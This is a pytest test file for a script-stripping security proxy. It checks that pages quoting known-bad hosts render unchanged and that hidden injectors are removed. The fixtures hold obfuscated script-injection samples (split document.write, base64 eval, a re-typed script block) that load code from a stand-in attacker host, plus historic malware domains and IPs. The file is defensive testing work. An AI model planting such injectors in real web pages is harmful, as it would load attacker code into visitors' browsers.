"""Pages that quote blocked origins render through `jectguard run`, byte for byte (issue 17).

A local origin serves the shapes a security team reads every day, each naming
hosts the proxy blocks (``evil.test`` on the test's domain list, the attacker's
address on its IP list, ``gumblar.cn`` and ``217.107.218.147`` from the shipped
signatures):

- a Next.js-style page whose article lives in ``<script id="__NEXT_DATA__"
  type="application/json">``; the page's only script reads it and writes the
  article into the DOM;
- a news article with a JSON-LD record naming ``http://www.nihaorr1.com/1.js``;
- a code viewer whose ``application/json`` payload is ``blocklists/builtin.txt``;
- a link checker whose inline script holds the hosts as data;
- prose.

Through the real proxy each page arrives with the same bytes as directly, renders
in Chromium (its scripts ran and wrote what they read), and the SOC gets a
``strip`` event with ``removed: false`` (reason ``mention``) for each quoting
script. The attacker who hides an injector as data for an eval-like sink, or a
blocked ``src`` on a data block that a second script re-types and inserts again,
is still stripped: a control proxy with stripping off shows the same page does
request the attacker.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from .browsing import (
    OWN,
    control_then_stripped,
    get,
    open_page,
    page_html,
    serve_pages,
    wait_for_strip_events,
)
from .conftest import ATTACKER_IP, ByteCounter, Proxy

ROOT = Path(__file__).resolve().parents[2]
BUILTIN = (ROOT / "blocklists" / "builtin.txt").read_text()


def _json_in_html(value: object) -> str:
    # As frameworks do: "</" never appears inside the element's text.
    return json.dumps(value).replace("</", "<\\/")


POST = {
    "title": "Gumblar and Download.Ject, revisited",
    "body": "Gumblar pulled its payload from gumblar.cn (later martuz.cn); Download.Ject "
    "loaded http://217.107.218.147/dot.php from every page; this year's wave used "
    "http://evil.test/x.js.",
}
NEXT_PAGE = page_html(
    "Threat report",
    '<div id="__next"><h1 id="title">loading</h1><div id="article">not rendered</div></div>\n'
    '<script id="__NEXT_DATA__" type="application/json">'
    + _json_in_html({"props": {"pageProps": {"post": POST}}, "page": "/posts/[slug]"})
    + "</script>\n<script>\n"
    "const data = JSON.parse(document.getElementById('__NEXT_DATA__').textContent);\n"
    "const post = data.props.pageProps.post;\n"
    "document.getElementById('title').textContent = post.title;\n"
    "const p = document.createElement('p');\n"
    "p.textContent = post.body;\n"
    "document.getElementById('article').replaceChildren(p);\n"
    "</script>",
)

ARTICLE = {
    "@context": "https://schema.org",
    "@type": "NewsArticle",
    "headline": "Mass SQL injection appends a script to ASP pages",
    "articleBody": "Infected pages end with <script src=http://www.nihaorr1.com/1.js></script>;"
    " the copycat wave loads http://evil.test/1.js.",
}
JSONLD_PAGE = page_html(
    "Asprox",
    '<h1 id="headline">loading</h1><p id="body"></p>\n'
    f'<script type="application/ld+json">{_json_in_html(ARTICLE)}</script>\n'
    "<script>\n"
    "const ld = JSON.parse(document.querySelector('script[type=\"application/ld+json\"]').text);\n"
    "document.getElementById('headline').textContent = ld.headline;\n"
    "document.getElementById('body').textContent = ld.articleBody;\n"
    "</script>",
)

VIEWER_LINES = BUILTIN.splitlines() + ["evil.test"]
VIEWER_PAGE = page_html(
    "builtin.txt",
    '<pre id="code">loading</pre>\n'
    '<script type="application/json" id="embedded">'
    + _json_in_html({"payload": {"blob": {"rawLines": VIEWER_LINES}}})
    + "</script>\n<script>\n"
    "const blob = JSON.parse(document.getElementById('embedded').textContent).payload.blob;\n"
    "document.getElementById('code').textContent = blob.rawLines.join('\\n');\n"
    "</script>",
)

CHECKER_PAGE = page_html(
    "Advisory",
    '<p>Sample: <a id="sample" href="http://evil.test/">the landing page</a>.</p>\n'
    "<script>\n"
    "// Flag links to hosts from the advisory.\n"
    'const KNOWN_BAD = ["gumblar.cn", "martuz.cn", "evil.test"];\n'
    "for (const a of document.querySelectorAll('a[href]')) {\n"
    "  const host = a.hostname.toLowerCase();\n"
    "  if (KNOWN_BAD.some((h) => host === h || host.endsWith('.' + h))) {\n"
    "    a.classList.add('ioc');\n"
    "    a.removeAttribute('href');\n"
    "  }\n"
    "}\n"
    "</script>",
)

PROSE_PAGE = page_html(
    "Prose",
    '<p id="prose">The script loaded from gumblar.cn, later martuz.cn and evil.test; '
    "Download.Ject used http://217.107.218.147/dot.php.</p>",
)

QUOTING = {
    "next": NEXT_PAGE,
    "jsonld": JSONLD_PAGE,
    "viewer": VIEWER_PAGE,
    "checker": CHECKER_PAGE,
    "prose": PROSE_PAGE,
}


def _hidden_writer(attacker_url: str) -> str:
    # The markup held "as data" in an array, written by an index.
    return page_html(
        "Shop",
        OWN + f"<script>var parts = ['<script src=\"{attacker_url}\"></scr' + 'ipt>'];"
        "document.write(parts[0]);</script>",
    )


def _hidden_eval(attacker_url: str) -> str:
    code = f"document.write('<script src=\"{attacker_url}\"></scr' + 'ipt>')"
    payload = base64.b64encode(code.encode()).decode()
    return page_html(
        "Shop",
        OWN + f"<script>var cfg = {{v: '{payload}'}}; eval(atob(cfg.v));</script>",
    )


def _retyped_data_block(attacker_url: str) -> str:
    # Chromium fetches nothing for a text/plain script, but one that is given a
    # JavaScript type and inserted again loads (it never "started").
    return page_html(
        "Shop",
        OWN + f'<script type="text/plain" id="later" src="{attacker_url}"></script>\n'
        "<script>var d = document.getElementById('later');"
        "if (d) { d.type = ''; document.body.appendChild(d); }</script>",
    )


INJECTORS = {
    "hidden-writer": _hidden_writer,
    "hidden-eval": _hidden_eval,
    "retyped-data-block": _retyped_data_block,
}


@dataclass
class Site:
    port: int = 0
    tls_port: int = 0
    attacker_url: str = "http://attacker.invalid/x.js"

    def body(self, name: str) -> bytes:
        if name in INJECTORS:
            return INJECTORS[name](self.attacker_url).encode()
        return QUOTING[name].encode()


def _body(site: Site, name: str) -> bytes | None:
    return site.body(name) if name in QUOTING or name in INJECTORS else None


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    s = Site()
    with serve_pages(tmp_path_factory, "mentions", lambda name: _body(s, name)) as served:
        s.port, s.tls_port = served.port, served.tls_port
        yield s


@pytest.mark.parametrize("name", sorted(QUOTING))
def test_quoting_pages_pass_byte_for_byte(proxy: Proxy, site: Site, name: str) -> None:
    url = f"http://good.test:{site.port}/{name}"
    direct = get(0, url)
    assert direct == site.body(name)
    assert get(proxy.port, url) == direct
    if name == "prose":
        return  # the text of a paragraph is never judged
    events = wait_for_strip_events(proxy, url)
    assert events, "the SOC sees the mention"
    for e in events:
        assert e["removed"] is False and e["reason"] == "mention" and e["verdict"] == "monitor"
        assert e["element"] == "script"


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_next_data_article_renders(browser: Any, proxy: Proxy, site: Site, scheme: str) -> None:
    port = site.port if scheme == "http" else site.tls_port
    url = f"{scheme}://good.test:{port}/next"
    context, page = open_page(browser, proxy, url)
    try:
        page.wait_for_function("document.getElementById('title').textContent !== 'loading'")
        assert page.inner_text("#title") == POST["title"]
        article = page.inner_text("#article")
        assert article == POST["body"]
        assert "gumblar.cn" in article and "217.107.218.147" in article
        assert page.evaluate("document.getElementById('__NEXT_DATA__') !== null")
    finally:
        context.close()
    events = wait_for_strip_events(proxy, url)
    assert events and all(e["removed"] is False and e["reason"] == "mention" for e in events)


def test_jsonld_viewer_checker_and_prose_render(browser: Any, proxy: Proxy, site: Site) -> None:
    base = f"http://good.test:{site.port}"
    context, page = open_page(browser, proxy, f"{base}/jsonld")
    try:
        page.wait_for_function("document.getElementById('headline').textContent !== 'loading'")
        assert page.inner_text("#headline") == ARTICLE["headline"]
        assert "nihaorr1.com/1.js" in page.inner_text("#body")
        page.goto(f"{base}/viewer", wait_until="load")
        page.wait_for_function("document.getElementById('code').textContent !== 'loading'")
        code = page.evaluate("document.getElementById('code').textContent")
        assert code.splitlines() == VIEWER_LINES
        page.goto(f"{base}/checker", wait_until="load")
        assert page.evaluate("document.getElementById('sample').className") == "ioc"
        assert page.evaluate("document.getElementById('sample').hasAttribute('href')") is False
        page.goto(f"{base}/prose", wait_until="load")
        assert "gumblar.cn" in page.inner_text("#prose")
    finally:
        context.close()


@pytest.mark.parametrize("name", sorted(INJECTORS))
def test_injector_hidden_as_data_is_stripped(
    browser: Any, proxy: Proxy, proxy_nostrip: Proxy, site: Site, attacker: ByteCounter,
    name: str,
) -> None:  # fmt: skip
    assert ATTACKER_IP is not None
    site.attacker_url = f"http://{ATTACKER_IP}:{attacker.port}/{name}.js"
    url = f"http://good.test:{site.port}/{name}"
    # The control (stripping off) asks for the attacker; the blocking addon refuses it.
    html = control_then_stripped(browser, proxy, proxy_nostrip, attacker, url, site.attacker_url)
    assert "document.write" not in html and "eval(" not in html and 'id="later"' not in html
    assert attacker.received == b""
    events = wait_for_strip_events(proxy, url)
    reason = "blocked-url" if name == "retyped-data-block" else "inline-reference"
    assert any(e["removed"] is True and e["reason"] == reason for e in events), events
